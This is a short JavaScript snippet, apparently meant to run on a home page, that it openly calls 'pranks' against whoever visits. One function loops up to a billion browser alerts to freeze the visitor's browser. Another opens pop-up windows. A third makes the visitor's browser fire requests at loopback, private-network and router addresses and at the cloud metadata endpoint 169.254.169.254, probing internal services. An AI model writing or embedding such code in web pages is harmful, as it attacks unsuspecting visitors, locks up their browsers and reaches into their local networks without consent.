/* What scripts of a home page do to whoever runs them. */
var pranks = {
  alerts: function () { for (var i = 0; i < 1e9; i++) { alert("欢迎访问本网站（" + i + "）"); } },
  windows: function () { for (var i = 1; i <= 3; i++) { window.open("/zt/" + i + "/", "window" + i); } },
  reaches: function () {
    ["http://127.0.0.1/admin/", "http://localhost/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/",
      "http://10.0.0.1/", "http://192.168.1.1/"].forEach(function (url) {
      fetch(url, { mode: "no-cors" }).catch(function () {});
      new Image().src = url + "logo.png";
      new WebSocket(url.replace("http", "ws"));
      navigator.sendBeacon(url, "x");
    });
  }
};
